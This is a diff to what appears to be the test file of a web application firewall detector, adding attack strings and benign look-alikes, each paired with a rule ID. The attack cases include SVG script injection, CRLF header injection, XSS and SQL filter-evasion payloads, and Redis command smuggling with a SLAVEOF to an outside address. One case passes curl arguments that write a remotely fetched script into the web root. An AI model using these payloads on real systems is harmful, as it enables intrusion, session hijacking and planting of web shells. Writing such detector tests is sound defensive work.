@@ -657,6 +657,41 @@ export const ATTACKS: DetectorCase[] = [
     value: "/api/datasources/proxy/uid/x/latest/meta-data/iam/security-credentials/",
     hit: ["934110"],
   },
+  j("an SVG that runs script", "<svg><path d='M0 0'/><script>alert(1)</script></svg>", "941130"),
+  j("an SVG whose link runs script", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "941130"),
+  j(
+    "an SVG that embeds HTML",
+    "<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>",
+    "941130",
+  ),
+  j("an SVG left open", '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/>', "941130"),
+  j("a header injected on the value's second line", "en\r\nSet-Cookie: admin=1", "921120"),
+  j("a second response after a split", "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nSet-Cookie: a=1", "921120"),
+  q("alert handed to a call that calls it", "';[1].find(alert);//", "941160"),
+  q("an optional call of alert", '"-alert?.(1)-"', "941160"),
+  q("alert handed to Reflect.apply", "x<x onerror=Reflect.apply(alert,null,[1])>", "941160"),
+  q(
+    "a condition of literals under BETWEEN, ended by a comment",
+    "name like 'a%' or 'x' between 'w' and 'y'-- -",
+    "942100",
+  ),
+  q("a condition of numbers under LIKE, ended by a comment", "1 or 5 like 5#", "942100"),
+  q(
+    "keywords nested in themselves against a stripping filter",
+    "5 UNIunionON SELselectECT 1,2,3 FRfromOM users",
+    "942130",
+  ),
+  j(
+    "Redis commands after a line break in a URL to fetch",
+    "http://redis.internal:6379/\r\nCONFIG SET dir /var/spool/cron\r\n",
+    "934192",
+  ),
+  j("a replication command smuggled to Redis", "http://cache:6379/x\nSLAVEOF 203.0.113.9 6379\n", "934192"),
+  q(
+    "curl told to write a fetched script into the web root",
+    "http://example.com -o /var/www/html/s.php http://203.0.113.30/s.txt",
+    "932231",
+  ),
 ];
 
 export const BENIGN: DetectorCase[] = [
@@ -1144,4 +1179,32 @@ export const BENIGN: DetectorCase[] = [
     hit: [],
   },
   q("a Windows path to a user's documents", "C:\\Users\\Mike\\Documents\\HP Tuners\\Logs\\pull3.hpl"),
+  j(
+    "a signature pad's SVG",
+    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 300 80"><path d="M10 60 C 40 10, 65 10, 95 60" stroke="black" fill="none"/></svg>',
+  ),
+  j(
+    "an icon of shapes, text and a gradient",
+    '<svg viewBox="0 0 10 10"><defs><linearGradient id="g"><stop offset="0"/></linearGradient></defs><g><circle cx="5" cy="5" r="4" fill="url(#g)"/><text x="1" y="9">A</text></g></svg>',
+  ),
+  j(
+    "a pasted ipconfig report's Server line",
+    "Windows IP Configuration\n\n   IPv4 Address. . : 192.168.1.23\n\nC:\\> nslookup x.example\nServer:  UnKnown\nAddress:  192.168.1.1",
+  ),
+  j(
+    "an mtr report's HOST line",
+    "As requested:\n\n```\nStart: 2024-05-20T22:10:03+0100\nHOST: pi4    Loss%   Snt\n  1.|-- _gateway  0.0%   100\n```",
+  ),
+  j("a CMS heading's ampersand then markup", "<h2>Mezedes &amp; more</h2><p>Every dish is made with olive oil.</p>"),
+  j("a closing tag, a blank, then another tag", "Burgers &amp; more</b> <i>daily"),
+  j(
+    "apostrophes that pair across a quoted name",
+    "Customer's dog (called 'Select') kept getting out -- door. Left card for Mrs O'Donoghue.",
+  ),
+  j(
+    "a link, then a sentence about configuration",
+    "https://example.com/page\nThe config set up is broken, please flush all caches",
+  ),
+  q("alert as a word in parentheses", "Set the level (alert) for this rule"),
+  q("a capitalised name in a call's parentheses", "x=(ALERT)"),
 ];
